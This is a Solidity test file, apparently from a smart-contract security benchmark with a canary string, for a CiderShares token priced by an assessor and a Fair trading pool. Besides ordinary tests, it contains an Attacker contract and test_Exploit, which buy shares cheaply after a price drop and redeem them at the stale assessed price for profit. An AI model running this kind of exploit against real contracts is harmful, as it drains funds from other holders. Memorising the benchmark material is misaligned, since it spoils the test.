// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-ec5e2aff-396a-4f55-a19d-52a7842f5322

import "./CiderShares.sol";
import {Fair} from "./context/Fair.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Buys shares where the frost is in the price, and gives them back where it is not.
contract Attacker {
    function trades(CiderShares works, Fair fair) external {
        IERC20 coin = works.coin();
        uint256 mine = coin.balanceOf(address(this));
        coin.approve(address(fair), mine);
        works.leave(fair.buy(mine, 0), 0, block.timestamp);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ASSESSOR = address(0xA55E);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_762_900_000;
    uint256 private constant FROST = START + 9 days;

    Coin public coin;
    CiderShares public works;
    Fair public fair;
    Attacker public trader;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        works = new CiderShares(coin, address(this));
        fair = new Fair(works, coin);
        works.appoint(ASSESSOR);
        vm.prank(ASSESSOR);
        works.assess(10e18);
        works.issue(ANNA, 2_000e18);
        works.issue(BELA, 1_500e18);
        works.issue(address(this), 1_000e18);
        coin.approve(address(works), type(uint256).max);
        works.fill(20_000e18);
        works.approve(address(fair), type(uint256).max);
        coin.approve(address(fair), type(uint256).max);
        fair.give(1_000e18, 10_000e18);
        trader = new Attacker();
        coin.transfer(address(trader), 4_000e18);
        // a frost, of which everybody has heard; the assessor has been ill for days
        vm.warp(FROST);
        vm.startPrank(BELA);
        works.approve(address(fair), type(uint256).max);
        fair.sell(1_000e18, 5_000e18);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(ASSESSOR);
        works.assess(4e18);
        (uint256 price, uint256 until) = works.last();
        require(price == 4e18 && until == FROST + 1 days, "assessed");
        vm.warp(FROST + 1 days - 1);
        require(works.timeLeft() == 1, "the end of the day");
        vm.prank(ANNA);
        require(works.leave(500e18, 1_960e18, FROST + 1 days) == 1_960e18, "the price of the day");
        require(coin.balanceOf(ANNA) == 1_960e18 && works.balanceOf(ANNA) == 1_500e18, "left");
        vm.prank(ASSESSOR);
        works.assess(5e18);
        works.spend(8_000e18);
        works.issue(BELA, 100e18);
        vm.startPrank(BELA);
        require(works.leave(600e18, 0, FROST + 2 days) == 2_940e18, "the price of the next day");
        coin.approve(address(fair), 1_000e18);
        works.transfer(ANNA, fair.buy(1_000e18, 333e18));
        vm.stopPrank();
        require(coin.balanceOf(address(works)) == 20_000e18 - 1_960e18 - 8_000e18 - 2_940e18, "the till");
        vm.prank(ANNA);
        works.approve(BELA, 1e18);
        vm.prank(BELA);
        works.transferFrom(ANNA, BELA, 1e18);
        works.appoint(BELA);
        works.transferOwnership(BELA);
        vm.prank(BELA);
        works.renounceOwnership();
    }

    function test_RefusesOthers() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Assessments.NotTheAssessor.selector, BELA));
        works.assess(1e18);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        works.appoint(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        works.issue(BELA, 1e18);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        works.spend(1e18);
        vm.stopPrank();
    }

    function test_RefusesBadBounds() public {
        vm.prank(ASSESSOR);
        works.assess(4e18);
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CiderShares.TooFew.selector, 392e18, 392e18 + 1));
        works.leave(100e18, 392e18 + 1, FROST);
        vm.expectRevert(abi.encodeWithSelector(CiderShares.TooLate.selector, FROST - 1));
        works.leave(100e18, 0, FROST - 1);
        vm.stopPrank();
    }

    function test_RefusesToIssue() public {
        vm.expectRevert(abi.encodeWithSelector(Assessments.NotAssessed.selector, START + 1 days));
        works.issue(BELA, 1e18);
    }

    function test_RefusesAtTheFair() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Fair.TooLittle.selector, 1_000e18, 1_000e18 + 1));
        fair.sell(500e18, 1_000e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(Fair.TooLittle.selector, 1_000e18, 1_000e18 + 1));
        fair.buy(5_000e18, 1_000e18 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        trader.trades(works, fair);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(trader)) >= 8_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(works);
    }

    function attacker() public view returns (address) {
        return address(trader);
    }
}
